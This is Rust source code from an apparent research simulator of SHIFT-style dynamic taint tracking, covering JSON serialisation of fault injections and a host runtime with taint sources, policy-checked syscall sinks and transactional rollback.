            ("addr", Json::U64(*addr)),
            ("size", Json::U64(*size)),
            ("ip", Json::U64(*ip as u64)),
        ]),
        Fault::BadIp { ip } => Json::obj(vec![
            ("kind", Json::Str("bad-ip".to_string())),
            ("ip", Json::U64(*ip as u64)),
        ]),
        Fault::BadSyscall { num, ip } => Json::obj(vec![
            ("kind", Json::Str("bad-syscall".to_string())),
            ("num", Json::U64(u64::from(*num))),
            ("ip", Json::U64(*ip as u64)),
        ]),
    }
}

fn fault_from_json(doc: &Json) -> Result<Fault, String> {
    let ip = u64_field(doc, "ip")? as usize;
    match str_field(doc, "kind")? {
        "nat-consumption" => {
            let name = str_field(doc, "nat")?;
            let kind = [
                NatFaultKind::StoreValue,
                NatFaultKind::LoadAddress,
                NatFaultKind::StoreAddress,
                NatFaultKind::BranchMove,
            ]
            .into_iter()
            .find(|k| k.name() == name)
            .ok_or_else(|| format!("unknown NaT fault kind `{name}`"))?;
            Ok(Fault::NatConsumption { kind, ip })
        }
        "unmapped" => Ok(Fault::Unmapped { addr: u64_field(doc, "addr")?, ip }),
        "unimplemented" => Ok(Fault::Unimplemented { addr: u64_field(doc, "addr")?, ip }),
        "unaligned" => Ok(Fault::Unaligned {
            addr: u64_field(doc, "addr")?,
            size: u64_field(doc, "size")?,
            ip,
        }),
        "bad-ip" => Ok(Fault::BadIp { ip }),
        "bad-syscall" => {
            let num = u64_field(doc, "num")?;
            if num > u32::MAX as u64 {
                return Err(format!("syscall number {num} out of range"));
            }
            Ok(Fault::BadSyscall { num: num as u32, ip })
        }
        other => Err(format!("unknown fault kind `{other}`")),
    }
}

// ---- open-loop section ------------------------------------------------------

fn open_loop_to_json(ol: &OpenLoopLog) -> Json {
    Json::obj(vec![
        ("spec", Json::Str(ol.spec.clone())),
        ("arrivals", Json::Arr(ol.arrivals.iter().map(|&c| Json::U64(c)).collect())),
        ("workers", Json::U64(ol.workers as u64)),
        ("accept_cap", Json::U64(ol.accept_cap as u64)),
        ("max_resident", Json::U64(ol.max_resident as u64)),
        ("quantum", Json::U64(ol.quantum)),
        ("completed", Json::U64(ol.completed)),
        ("shed", Json::U64(ol.shed)),
        ("wall_cycles", Json::U64(ol.wall_cycles)),
    ])
}

fn open_loop_from_json(doc: &Json) -> Result<OpenLoopLog, String> {
    let arrivals = arr_field(doc, "arrivals")?
        .iter()
        .map(|v| v.as_u64().ok_or_else(|| "non-integer arrival cycle".to_string()))
        .collect::<Result<Vec<_>, _>>()?;
    Ok(OpenLoopLog {
        spec: str_field(doc, "spec")?.to_string(),
        arrivals,
        workers: u64_field(doc, "workers")? as usize,
        accept_cap: u64_field(doc, "accept_cap")? as usize,
        max_resident: u64_field(doc, "max_resident")? as usize,
        quantum: u64_field(doc, "quantum")?,
        completed: u64_field(doc, "completed")?,
        shed: u64_field(doc, "shed")?,
        wall_cycles: u64_field(doc, "wall_cycles")?,
    })
}

// ---- connections and outcomes -----------------------------------------------

fn connection_to_json(conn: &ConnectionLog) -> Json {
    Json::obj(vec![
        ("requests", hex_arr(&conn.requests)),
        (
            "injections",
            Json::Arr(
                conn.injections
                    .iter()
                    .map(|(after, inj)| {
                        Json::obj(vec![
                            ("after", Json::U64(*after)),
                            ("inject", injection_to_json(inj)),
                        ])
                    })
                    .collect(),
            ),
        ),
    ])
}

fn connection_from_json(doc: &Json) -> Result<ConnectionLog, String> {
    let injections = arr_field(doc, "injections")?
        .iter()
        .map(|item| {
            let after = u64_field(item, "after")?;
            let inj = injection_from_json(item.get("inject").ok_or("missing `inject`")?)?;
            Ok((after, inj))
        })
        .collect::<Result<Vec<_>, String>>()?;
    Ok(ConnectionLog { requests: unhex_arr(doc, "requests")?, injections })
}

fn expected_to_json(exp: &Expected) -> Json {
    Json::obj(vec![
        ("exit", Json::Str(exp.exit.clone())),
        ("state_digest", Json::U64(exp.state_digest)),
        ("cycles", Json::U64(exp.cycles)),
        ("instructions", Json::U64(exp.instructions)),
        ("delivered", Json::U64(exp.delivered)),
        ("served", Json::U64(exp.served)),
        ("recovered", Json::U64(exp.recovered)),
        ("dropped", Json::U64(exp.dropped)),
        ("violations", Json::Arr(exp.violations.iter().map(|p| Json::Str(p.clone())).collect())),
    ])
}

fn expected_from_json(doc: &Json) -> Result<Expected, String> {
    let violations = arr_field(doc, "violations")?
        .iter()
        .map(|v| v.as_str().map(str::to_string).ok_or_else(|| "non-string violation".to_string()))
        .collect::<Result<Vec<_>, _>>()?;
    Ok(Expected {
        exit: str_field(doc, "exit")?.to_string(),
        state_digest: u64_field(doc, "state_digest")?,
        cycles: u64_field(doc, "cycles")?,
        instructions: u64_field(doc, "instructions")?,
        delivered: u64_field(doc, "delivered")?,
        served: u64_field(doc, "served")?,
        recovered: u64_field(doc, "recovered")?,
        dropped: u64_field(doc, "dropped")?,
        violations,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_machine::Violation;

    #[test]
    fn hex_round_trips_all_byte_values() {
        let all: Vec<u8> = (0u8..=255).collect();
        assert_eq!(unhex(&hex(&all)).unwrap(), all);
        assert!(unhex("abc").is_err());
        assert!(unhex("zz").is_err());
    }

    #[test]
    fn mode_keys_round_trip() {
        for key in [
            "plain",
            "byte",
            "word",
            "byte-enhanced",
            "word-enhanced",
            "shadow-byte",
            "shadow-word",
        ] {
            let mode = mode_from_key(key).unwrap();
            assert_eq!(mode_key(mode), key);
        }
        assert!(mode_from_key("turbo").is_none());
    }

    #[test]
    fn injections_round_trip_through_json() {
        let cases = [
            Injection::FlipNat { reg: Gpr::from_index(9) },
            Injection::CorruptByte { addr: 0x1234, xor: 0xa5 },
            Injection::Fault(Fault::Unmapped { addr: 0xdead, ip: 7 }),
            Injection::Fault(Fault::Unaligned { addr: 3, size: 8, ip: 1 }),
            Injection::Fault(Fault::NatConsumption { kind: NatFaultKind::BranchMove, ip: 42 }),
            Injection::Fault(Fault::BadSyscall { num: 99, ip: 0 }),
            Injection::Fault(Fault::BadIp { ip: 12 }),
            Injection::Fault(Fault::Unimplemented { addr: 0x77, ip: 3 }),
        ];
        for inj in cases {
            let doc = injection_to_json(&inj);
            let text = doc.render();
            let back = injection_from_json(&Json::parse(&text).unwrap()).unwrap();
            assert_eq!(back, inj);
        }
    }

    #[test]
    fn exit_signatures_distinguish_outcomes() {
        let sigs = [
            exit_signature(&Exit::Halted(0)),
            exit_signature(&Exit::Halted(3)),
            exit_signature(&Exit::Violation(Violation {
                policy: "H2".into(),
                message: "m".into(),
                ip: 5,
                provenance: None,
            })),
            exit_signature(&Exit::Fault(Fault::Unmapped { addr: 1, ip: 2 })),
            exit_signature(&Exit::FuelExhausted),
            exit_signature(&Exit::InsnLimit),
        ];
        let mut uniq = sigs.to_vec();
        uniq.sort();
        uniq.dedup();
        assert_eq!(uniq.len(), sigs.len(), "{sigs:?}");
    }

    #[test]
    fn world_round_trips_including_binary_payloads() {
        let mut world = World::new()
            .file("www/page", vec![0u8, 255, 128, 7])
            .arg(b"--flag".to_vec())
            .net(vec![0x00, 0x01, 0xfe])
            .kbd(b"line\n".to_vec());
        world.files.insert("empty".into(), Vec::new());
        let back = world_from_json(&Json::parse(&world_to_json(&world).render()).unwrap()).unwrap();
        assert_eq!(back, world);
    }
}
