//! The host runtime: operating system, taint sources, and policy sinks.
//!
//! Implements [`shift_machine::Os`]. The runtime plays three roles from the
//! paper:
//!
//! * the **OS/I-O layer** the guest calls into (network, files, keyboard,
//!   heap, arguments), with an I/O latency model so server experiments see
//!   realistic I/O-dominated time;
//! * the **taint sources** (§3.3.1): configurable channels whose data is
//!   marked tainted — in both the host's ground-truth shadow map and the
//!   guest's in-memory bitmap (playing the part of the instrumented read
//!   wrappers);
//! * the **policy engine** (§3.3.3, §5.1): sinks (`file_open`, `sql_exec`,
//!   `system`, `html_out`) evaluate the armed high-level policies over the
//!   per-byte taint of their arguments — read from the *guest-maintained*
//!   bitmap, so detection genuinely depends on the instrumentation having
//!   tracked the flow correctly.

use std::collections::{BTreeMap, VecDeque};

use shift_isa::{sys, Gpr};
use shift_machine::{
    layout, Exit, Fault, Machine, MemError, Os, Sample, Snapshot, SysResult, TraceKind, Violation,
};
use shift_tagmap::{tag_location, Granularity, HostShadow};

use crate::config::{Source, TaintConfig, ViolationAction};
use crate::policy::{self, Policy, TaintedBytes};

/// The external world a guest program runs against.
#[derive(Clone, PartialEq, Eq, Debug, Default)]
pub struct World {
    /// Network messages, one per `net_read` call.
    pub net_input: VecDeque<Vec<u8>>,
    /// Keyboard lines, one per `kbd_read` call.
    pub kbd_input: VecDeque<Vec<u8>>,
    /// The filesystem.
    pub files: BTreeMap<String, Vec<u8>>,
    /// Program arguments.
    pub args: Vec<Vec<u8>>,
}

impl World {
    /// An empty world.
    pub fn new() -> World {
        World::default()
    }

    /// Adds a network message (builder style).
    pub fn net(mut self, msg: impl Into<Vec<u8>>) -> World {
        self.net_input.push_back(msg.into());
        self
    }

    /// Adds a file (builder style).
    pub fn file(mut self, name: impl Into<String>, content: impl Into<Vec<u8>>) -> World {
        self.files.insert(name.into(), content.into());
        self
    }

    /// Adds a program argument (builder style).
    pub fn arg(mut self, a: impl Into<Vec<u8>>) -> World {
        self.args.push(a.into());
        self
    }

    /// Adds a keyboard line (builder style).
    pub fn kbd(mut self, line: impl Into<Vec<u8>>) -> World {
        self.kbd_input.push_back(line.into());
        self
    }
}

/// I/O wait-time model, in cycles. Network and disk operations charge
/// `base + per_byte × n` of *I/O time* (tracked separately from CPU cycles;
/// see [`shift_machine::Stats::io_cycles`]).
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct IoCostModel {
    /// Fixed cost of a network operation.
    pub net_base: u64,
    /// Per-byte cost on the network.
    pub net_per_byte: u64,
    /// Fixed cost of a disk operation.
    pub disk_base: u64,
    /// Per-byte cost on disk.
    pub disk_per_byte: u64,
}

impl IoCostModel {
    /// A LAN-server flavoured default (used by the Apache experiment).
    pub const SERVER: IoCostModel =
        IoCostModel { net_base: 30_000, net_per_byte: 12, disk_base: 60_000, disk_per_byte: 6 };

    /// Free I/O: used by the SPEC experiments, which measure pure CPU
    /// slowdown.
    pub const FREE: IoCostModel =
        IoCostModel { net_base: 0, net_per_byte: 0, disk_base: 0, disk_per_byte: 0 };
}

#[derive(Clone, Debug)]
struct OpenFile {
    name: String,
    pos: usize,
    writable: bool,
}

/// The runtime half of a transaction checkpoint: everything a rolled-back
/// request may have changed on the host side. The machine half (registers,
/// NaT bits, memory) lives in a [`Snapshot`].
#[derive(Clone, Debug)]
struct RuntimeCheckpoint {
    shadow: HostShadow,
    fds: Vec<Option<OpenFile>>,
    heap_cursor: u64,
    files: BTreeMap<String, Vec<u8>>,
    opened_paths_len: usize,
    log_len: usize,
    net_output_len: usize,
    html_output_len: usize,
    sql_log_len: usize,
    shell_log_len: usize,
    /// CPU cycles at checkpoint time, for attributing rolled-back work.
    stats_cycles: u64,
}

/// The runtime state (one per guest run).
#[derive(Clone, Debug)]
pub struct Runtime {
    cfg: TaintConfig,
    world: World,
    /// Tag granularity of the instrumented guest; `None` for uninstrumented
    /// runs (no bitmap exists, sinks cannot check anything — the paper's
    /// "without SHIFT protection, all attacks succeed").
    gran: Option<Granularity>,
    /// Host-side ground truth, used by `debug_taint` and the test suite.
    pub shadow: HostShadow,
    /// I/O latency model.
    pub io: IoCostModel,
    fds: Vec<Option<OpenFile>>,
    heap_cursor: u64,
    /// `print` output.
    pub log: Vec<Vec<u8>>,
    /// Bytes sent with `net_write`.
    pub net_output: Vec<u8>,
    /// Bytes emitted with `html_out` (checked by H5 per call).
    pub html_output: Vec<u8>,
    /// Executed SQL statements.
    pub sql_log: Vec<Vec<u8>>,
    /// Executed shell commands.
    pub shell_log: Vec<Vec<u8>>,
    /// Successfully opened paths (diagnostics for attack assertions).
    pub opened_paths: Vec<String>,
    /// The first policy violation, if any.
    pub violation: Option<Violation>,
    /// Every violation observed, in order — the shared log the user-level
    /// handler appends to regardless of the configured [`ViolationAction`].
    pub violations: Vec<Violation>,
    /// When `true`, every `net_read` delivery opens a transaction: a machine
    /// snapshot plus a runtime checkpoint, restorable via
    /// [`Runtime::recover`].
    transactional: bool,
    checkpoint: Option<(Snapshot, RuntimeCheckpoint)>,
    /// Network requests delivered to the guest (including ones later rolled
    /// back).
    pub requests_delivered: u64,
    /// Transactions rolled back (inline `AbortTransaction` recoveries plus
    /// [`Runtime::recover`] calls from the session loop).
    pub recoveries: u64,
    /// Requests whose transaction closed at the next `net_read` boundary —
    /// the guest finished them and asked for more work. Together with
    /// [`Runtime::aborted_requests`] and the open-request flag this
    /// partitions [`Runtime::requests_delivered`] exactly:
    /// `completed + aborted + open == delivered` at every instant.
    pub completed_requests: u64,
    /// Delivered requests whose transaction was rolled back by
    /// [`Runtime::recover`]. A subset of [`Runtime::recoveries`]: rollbacks
    /// taken while no request was open (e.g. a fault after the queue
    /// drained) count as recoveries but abort no request.
    pub aborted_requests: u64,
    /// `true` while a delivered request is being processed: set when a
    /// `net_read` actually hands bytes to the guest, cleared when the guest
    /// reaches the next `net_read` (completion) or the transaction rolls
    /// back (abort).
    open_request: bool,
    /// Sink operations suppressed by `LogAndContinue`.
    pub suppressed_sinks: u64,
    /// CPU cycles spent in transactions that were later rolled back — the
    /// work a recovery throws away.
    pub recovery_cycles: u64,
    /// Per-request serve latencies in modelled cycles (CPU + I/O), one
    /// entry per completed request window. Timing state: deliberately not
    /// rolled back by [`Runtime::recover`].
    pub request_latencies: Vec<u64>,
    /// Total-time stamp when the current request window opened.
    request_start: Option<u64>,
    /// Keyboard lines delivered (labels taint births).
    kbd_reads: u64,
    /// When `true`, every syscall that charges I/O wait time completes in
    /// full (delivery, return value, latency) and then stops the machine
    /// with [`Exit::Parked`] instead of continuing — the yield points of the
    /// event-driven fleet scheduler. Redeliveries inside
    /// [`Runtime::recover`] never park: the rollback path must leave the
    /// guest runnable.
    yield_on_io: bool,
}

impl Runtime {
    /// Creates a runtime for an instrumented guest tracking at `gran`
    /// (pass `None` for uninstrumented guests).
    pub fn new(cfg: TaintConfig, world: World, gran: Option<Granularity>) -> Runtime {
        Runtime {
            cfg,
            world,
            gran,
            shadow: HostShadow::new(),
            io: IoCostModel::FREE,
            fds: Vec::new(),
            heap_cursor: layout::HEAP_BASE,
            log: Vec::new(),
            net_output: Vec::new(),
            html_output: Vec::new(),
            sql_log: Vec::new(),
            shell_log: Vec::new(),
            opened_paths: Vec::new(),
            violation: None,
            violations: Vec::new(),
            transactional: false,
            checkpoint: None,
            requests_delivered: 0,
            recoveries: 0,
            completed_requests: 0,
            aborted_requests: 0,
            open_request: false,
            suppressed_sinks: 0,
            recovery_cycles: 0,
            request_latencies: Vec::new(),
            request_start: None,
            kbd_reads: 0,
            yield_on_io: false,
        }
    }

    /// The session's taint/policy configuration.
    pub fn config(&self) -> &TaintConfig {
        &self.cfg
    }

    /// Sets the I/O cost model (builder style).
    pub fn with_io(mut self, io: IoCostModel) -> Runtime {
        self.io = io;
        self
    }

    /// Enables per-request transactions (builder style): each `net_read`
    /// delivery checkpoints machine and runtime, and pets the watchdog if
    /// one is armed.
    pub fn with_transactions(mut self) -> Runtime {
        self.transactional = true;
        self
    }

    /// Turns every I/O-charging syscall into a yield point (builder style):
    /// the syscall completes in full and the machine stops with
    /// [`Exit::Parked`], resumable with another [`Machine::run`]. With the
    /// [`IoCostModel::FREE`] model nothing charges, so nothing parks.
    pub fn with_io_yield(mut self) -> Runtime {
        self.yield_on_io = true;
        self
    }

    /// Is yield-on-I/O parking armed?
    pub fn yields_on_io(&self) -> bool {
        self.yield_on_io
    }

    /// The result of a syscall that just charged `charged` cycles of I/O
    /// wait: a park when yield-on-I/O is armed and the operation actually
    /// cost something, otherwise plain continuation.
    fn io_done(&self, charged: u64) -> SysResult {
        if self.yield_on_io && charged > 0 {
            SysResult::Stop(Exit::Parked)
        } else {
            SysResult::Continue
        }
    }

    /// Network requests still queued for delivery.
    pub fn pending_requests(&self) -> usize {
        self.world.net_input.len()
    }

    /// Is a transaction checkpoint currently armed?
    pub fn has_checkpoint(&self) -> bool {
        self.checkpoint.is_some()
    }

    /// Is a delivered request currently being processed (delivered but
    /// neither completed at a `net_read` boundary nor rolled back)?
    pub fn open_request(&self) -> bool {
        self.open_request
    }

    /// The filesystem in its current state (files written by the guest
    /// included) — used by attack assertions and post-run inspection.
    pub fn world_files(&self) -> &BTreeMap<String, Vec<u8>> {
        &self.world.files
    }

    // ---- taint plumbing ---------------------------------------------------

    /// Writes `bytes` into guest memory at `addr` and marks their taint in
    /// both the host shadow and (when instrumented) the guest bitmap.
    /// `label` names the source channel for taint tracing (e.g.
    /// `"net_read msg#0"`); it becomes the origin of the provenance chain a
    /// later sink violation reports.
    fn write_guest(
        &mut self,
        m: &mut Machine,
        addr: u64,
        bytes: &[u8],
        tainted: bool,
        label: &str,
    ) -> Result<(), MemError> {
        m.mem.write_bytes(addr, bytes)?;
        self.shadow.set_range(addr, bytes.len() as u64, tainted);
        if let Some(gran) = self.gran {
            for i in 0..bytes.len() as u64 {
                let loc = tag_location(addr + i, gran).expect("guest buffers live in data regions");
                let byte = m.mem.read_int(loc.byte_addr, 1)?;
                let new =
                    if tainted { byte | u64::from(loc.mask) } else { byte & !u64::from(loc.mask) };
                m.mem.write_int(loc.byte_addr, 1, new)?;
            }
        }
        if let Some(o) = m.taint_observer_mut() {
            o.record_runtime_write(label, addr, bytes.len() as u64, tainted);
        }
        Ok(())
    }

    /// Reads guest bytes plus their taint **as the guest's bitmap records
    /// it** — this is what policy checks must use.
    fn read_tainted(&self, m: &mut Machine, addr: u64, len: u64) -> Result<TaintedBytes, MemError> {
        let mut bytes = vec![0u8; len as usize];
        m.mem.read_bytes(addr, &mut bytes)?;
        let mut taint = vec![false; bytes.len()];
        if let Some(gran) = self.gran {
            for (i, t) in taint.iter_mut().enumerate() {
                if let Ok(loc) = tag_location(addr + i as u64, gran) {
                    let byte = m.mem.read_int(loc.byte_addr, 1)?;
                    *t = byte & u64::from(loc.mask) != 0;
                }
            }
        }
        Ok(TaintedBytes { bytes, taint })
    }

    fn read_tainted_cstr(
        &self,
        m: &mut Machine,
        addr: u64,
        max: usize,
    ) -> Result<TaintedBytes, MemError> {
        let bytes = m.mem.read_cstr(addr, max)?;
        let len = bytes.len() as u64;
        self.read_tainted(m, addr, len)
    }

    // ---- transactions & recovery ------------------------------------------

    /// Opens a transaction: machine snapshot plus runtime checkpoint. Any
    /// earlier checkpoint is superseded.
    fn take_checkpoint(&mut self, m: &mut Machine) {
        let snap = m.snapshot();
        let rc = RuntimeCheckpoint {
            shadow: self.shadow.clone(),
            fds: self.fds.clone(),
            heap_cursor: self.heap_cursor,
            files: self.world.files.clone(),
            opened_paths_len: self.opened_paths.len(),
            log_len: self.log.len(),
            net_output_len: self.net_output.len(),
            html_output_len: self.html_output.len(),
            sql_log_len: self.sql_log.len(),
            shell_log_len: self.shell_log.len(),
            stats_cycles: m.stats.cycles,
        };
        self.checkpoint = Some((snap, rc));
        let now = m.stats.total_time();
        if let Some(fr) = m.flight_recorder_mut() {
            fr.instant(now, TraceKind::Checkpoint);
        }
    }

    /// Rolls machine and runtime back to the open transaction's checkpoint
    /// and resumes the guest by delivering the next queued request at the
    /// restored `net_read` site (`0` bytes when the queue is drained, which
    /// lets a well-behaved server loop exit cleanly). The violation log and
    /// recovery counters deliberately survive the rollback. Returns `false`
    /// — recovery impossible — when no checkpoint is armed.
    pub fn recover(&mut self, m: &mut Machine) -> bool {
        let Some((snap, rc)) = self.checkpoint.clone() else {
            return false;
        };
        m.restore(&snap);
        self.shadow = rc.shadow;
        self.fds = rc.fds;
        self.heap_cursor = rc.heap_cursor;
        self.world.files = rc.files;
        self.opened_paths.truncate(rc.opened_paths_len);
        self.log.truncate(rc.log_len);
        self.net_output.truncate(rc.net_output_len);
        self.html_output.truncate(rc.html_output_len);
        self.sql_log.truncate(rc.sql_log_len);
        self.shell_log.truncate(rc.shell_log_len);
        self.recoveries += 1;
        // The rolled-back transaction's request (if one was actually
        // delivered into it) is gone for good: account it as aborted so
        // `completed + aborted + open == delivered` keeps holding.
        if self.open_request {
            self.aborted_requests += 1;
            self.open_request = false;
        }
        // Cycles are timing state and are not rolled back: attribute the
        // aborted transaction's work to recovery overhead, and restart the
        // attribution window for the transaction that begins now.
        let thrown = m.stats.cycles.saturating_sub(rc.stats_cycles);
        self.recovery_cycles += thrown;
        if let Some((_, rc)) = &mut self.checkpoint {
            rc.stats_cycles = m.stats.cycles;
        }
        let now = m.stats.total_time();
        if let Some(fr) = m.flight_recorder_mut() {
            fr.instant(now, TraceKind::Recovery { recovered_cycles: thrown });
        }
        m.pet_watchdog();
        // The restored CPU sits just after the `net_read` syscall that
        // opened the aborted transaction, argument registers intact:
        // deliver the next request right there.
        let (buf, max, _) = Self::args3(m);
        let msg = self.world.net_input.pop_front();
        if msg.is_some() {
            self.requests_delivered += 1;
            self.open_request = true;
        }
        let (b, p) = (self.io.net_base, self.io.net_per_byte);
        // Delivery into the restored buffer cannot fault: the same pages
        // accepted the original request before the rollback. The redelivery
        // must not park either — recovery leaves the guest runnable, and its
        // I/O charge folds into the current execution segment (a documented
        // coarseness of the event model).
        let saved_yield = self.yield_on_io;
        self.yield_on_io = false;
        let _ = self.do_stream_read(m, msg, buf, max, Source::Network, b, p);
        self.yield_on_io = saved_yield;
        true
    }

    fn violate(
        &mut self,
        m: &mut Machine,
        policy: Policy,
        message: String,
        chain: Option<String>,
    ) -> SysResult {
        if let Some(c) = &chain {
            if let Some(o) = m.taint_observer_mut() {
                o.record_sink_event(policy.name(), c);
            }
        }
        let v = Violation {
            policy: policy.name().to_string(),
            message,
            ip: m.cpu.ip,
            provenance: chain,
        };
        self.record(v.clone());
        self.dispose(m, self.cfg.action_for(policy), v)
    }

    fn record(&mut self, v: Violation) {
        if self.violation.is_none() {
            self.violation = Some(v.clone());
        }
        self.violations.push(v);
    }

    /// Appends to the shared violation log. The session loop uses this for
    /// detections the runtime never sees as syscalls — NaT-consumption
    /// faults raised by the machine itself.
    pub fn record_violation(&mut self, v: Violation) {
        self.record(v);
    }

    /// Applies the configured user-level response to a recorded violation.
    fn dispose(&mut self, m: &mut Machine, action: ViolationAction, v: Violation) -> SysResult {
        let now = m.stats.total_time();
        if let Some(fr) = m.flight_recorder_mut() {
            fr.instant(
                now,
                TraceKind::Violation {
                    policy: v.policy.clone(),
                    action: action_name(action).to_string(),
                },
            );
        }
        match action {
            ViolationAction::Terminate => SysResult::Stop(Exit::Violation(v)),
            ViolationAction::LogAndContinue => {
                // The dangerous sink effect is suppressed; the guest sees an
                // ordinary `-1` failure and keeps running.
                self.suppressed_sinks += 1;
                Self::ret(m, -1);
                SysResult::Continue
            }
            ViolationAction::AbortTransaction => {
                if self.recover(m) {
                    SysResult::Continue
                } else {
                    // No checkpoint to abort to: fail stop.
                    SysResult::Stop(Exit::Violation(v))
                }
            }
        }
    }

    fn check(
        &mut self,
        m: &mut Machine,
        policy: Policy,
        verdict: policy::PolicyVerdict,
        chain: Option<String>,
    ) -> Option<SysResult> {
        if !self.cfg.policy_on(policy) {
            return None;
        }
        verdict.map(|msg| self.violate(m, policy, msg, chain))
    }

    /// The provenance chain for a sink argument, when taint tracing is on:
    /// follows the tainted bytes of the argument back to the source channel
    /// recorded by the observer.
    fn chain_for(m: &Machine, sink: &str, addr: u64, arg: &TaintedBytes) -> Option<String> {
        m.taint_observer().and_then(|o| o.sink_chain(sink, addr, &arg.taint))
    }

    /// Closes the open per-request latency window (if any) at modelled time
    /// `now`. The serve loop calls this once after the guest exits so the
    /// final request's latency is recorded. Returns the closed window's
    /// `(start, latency)` so callers can mirror it into the flight recorder
    /// as a request span.
    pub fn finish_request_window(&mut self, now: u64) -> Option<(u64, u64)> {
        let start = self.request_start.take()?;
        let latency = now.saturating_sub(start);
        self.request_latencies.push(latency);
        Some((start, latency))
    }

    // ---- syscall bodies ---------------------------------------------------

    fn args3(m: &Machine) -> (u64, u64, u64) {
        (m.cpu.gpr(Gpr::arg(0)).value, m.cpu.gpr(Gpr::arg(1)).value, m.cpu.gpr(Gpr::arg(2)).value)
    }

    fn ret(m: &mut Machine, v: i64) {
        m.cpu.set_gpr_val(Gpr::RET, v as u64);
    }

    #[allow(clippy::too_many_arguments)] // private helper mirroring the syscall shape
    fn do_stream_read(
        &mut self,
        m: &mut Machine,
        data: Option<Vec<u8>>,
        buf: u64,
        max: u64,
        source: Source,
        base: u64,
        per_byte: u64,
    ) -> Result<SysResult, MemError> {
        let tainted = self.cfg.source_on(source);
        let delivered = data.is_some();
        let label = match source {
            Source::Network => {
                format!("net_read msg#{}", self.requests_delivered.saturating_sub(1))
            }
            Source::Keyboard => format!("kbd_read line#{}", self.kbd_reads),
            _ => "stream_read".to_string(),
        };
        let n = match data {
            Some(mut msg) => {
                msg.truncate(max as usize);
                self.write_guest(m, buf, &msg, tainted, &label)?;
                msg.len() as u64
            }
            None => 0,
        };
        if delivered && matches!(source, Source::Keyboard) {
            self.kbd_reads += 1;
        }
        m.stats.charge_io(base + per_byte * n);
        let now = m.stats.total_time();
        if matches!(source, Source::Network) {
            // Per-request latency: the window for request k runs from its
            // delivery to the next `net_read` (or `finish_request_window`).
            if let Some((start, latency)) = self.finish_request_window(now) {
                let index = self.request_latencies.len() as u64 - 1;
                if let Some(fr) = m.flight_recorder_mut() {
                    fr.span(start, start + latency, TraceKind::Request { index });
                }
            }
            if delivered {
                self.request_start = Some(now);
            }
        }
        let io_name = match source {
            Source::Network => "net_read",
            Source::Keyboard => "kbd_read",
            _ => "stream_read",
        };
        Self::trace_io(m, io_name, n);
        Self::ret(m, n as i64);
        Ok(self.io_done(base + per_byte * n))
    }

    /// Mirrors a completed syscall I/O leg into the flight recorder (no-op
    /// when disarmed).
    fn trace_io(m: &mut Machine, name: &'static str, bytes: u64) {
        let now = m.stats.total_time();
        if let Some(fr) = m.flight_recorder_mut() {
            fr.instant(now, TraceKind::SyscallIo { name, bytes });
        }
    }
}

/// The stable exposition name of a [`ViolationAction`], used for trace
/// events and docs.
pub(crate) fn action_name(action: ViolationAction) -> &'static str {
    match action {
        ViolationAction::Terminate => "terminate",
        ViolationAction::LogAndContinue => "log_and_continue",
        ViolationAction::AbortTransaction => "abort_transaction",
    }
}

impl Os for Runtime {
    fn syscall(&mut self, m: &mut Machine, num: u32) -> SysResult {
        let out = match self.dispatch(m, num) {
            Ok(r) => r,
            Err(e) => {
                let ip = m.cpu.ip;
                SysResult::Stop(Exit::Fault(match e {
                    MemError::Unimplemented { addr } => Fault::Unimplemented { addr, ip },
                    MemError::Unmapped { addr } => Fault::Unmapped { addr, ip },
                    MemError::Unaligned { addr, size } => Fault::Unaligned { addr, size, ip },
                }))
            }
        };
        // Time-series sampling. Syscalls are the only points where the
        // modelled clock can cross a threshold with the runtime's counters
        // in a consistent state, so sampling here is deterministic: the
        // same run produces the same samples at the same modelled cycles.
        if m.flight_recorder().is_some() {
            let now = m.stats.total_time();
            let sample = Sample {
                cycle: now,
                worker: 0, // restamped by the fleet with the connection index
                cycles: m.stats.cycles,
                io_cycles: m.stats.io_cycles,
                instructions: m.stats.instructions,
                requests: self.requests_delivered,
                recoveries: self.recoveries,
                violations: self.violations.len() as u64,
            };
            if let Some(fr) = m.flight_recorder_mut() {
                if fr.sample_due(now) {
                    fr.record_sample(sample);
                }
            }
        }
        out
    }
}

impl Runtime {
    fn dispatch(&mut self, m: &mut Machine, num: u32) -> Result<SysResult, MemError> {
        let (a0, a1, a2) = Self::args3(m);
        match num {
            sys::EXIT => Ok(SysResult::Stop(Exit::Halted(a0 as i64))),
            sys::PRINT => {
                let mut bytes = vec![0u8; a1 as usize];
                m.mem.read_bytes(a0, &mut bytes)?;
                self.log.push(bytes);
                Self::ret(m, 0);
                Ok(SysResult::Continue)
            }
            sys::NET_READ => {
                // Reaching the next read means the previous request's
                // transaction closed successfully: count it as completed.
                if self.open_request {
                    self.completed_requests += 1;
                    self.open_request = false;
                }
                if self.transactional {
                    // Each request is a transaction: checkpoint *before*
                    // delivery so a rollback lands with the request undelivered,
                    // and grant the new transaction a full watchdog budget.
                    self.take_checkpoint(m);
                    m.pet_watchdog();
                }
                let msg = self.world.net_input.pop_front();
                if msg.is_some() {
                    self.requests_delivered += 1;
                    self.open_request = true;
                }
                let (b, p) = (self.io.net_base, self.io.net_per_byte);
                self.do_stream_read(m, msg, a0, a1, Source::Network, b, p)
            }
            sys::KBD_READ => {
                let msg = self.world.kbd_input.pop_front();
                self.do_stream_read(m, msg, a0, a1, Source::Keyboard, 0, 0)
            }
            sys::NET_WRITE => {
                let mut bytes = vec![0u8; a1 as usize];
                m.mem.read_bytes(a0, &mut bytes)?;
                m.stats.charge_io(self.io.net_base + self.io.net_per_byte * a1);
                self.net_output.extend_from_slice(&bytes);
                Self::trace_io(m, "net_write", a1);
                Self::ret(m, a1 as i64);
                Ok(self.io_done(self.io.net_base + self.io.net_per_byte * a1))
            }
            sys::FILE_OPEN => {
                let path = self.read_tainted_cstr(m, a0, 4096)?;
                let chain = Self::chain_for(m, "file_open", a0, &path);
                if let Some(stop) =
                    self.check(m, Policy::H1, policy::check_h1_absolute_path(&path), chain.clone())
                {
                    return Ok(stop);
                }
                if let Some(stop) =
                    self.check(m, Policy::H2, policy::check_h2_traversal(&path), chain)
                {
                    return Ok(stop);
                }
                let name = String::from_utf8_lossy(&path.bytes).into_owned();
                let writable = a1 == 1;
                if writable {
                    self.world.files.entry(name.clone()).or_default();
                } else if !self.world.files.contains_key(&name) {
                    Self::ret(m, -1);
                    return Ok(SysResult::Continue);
                }
                self.opened_paths.push(name.clone());
                let fd = self.fds.len() as i64;
                self.fds.push(Some(OpenFile { name, pos: 0, writable }));
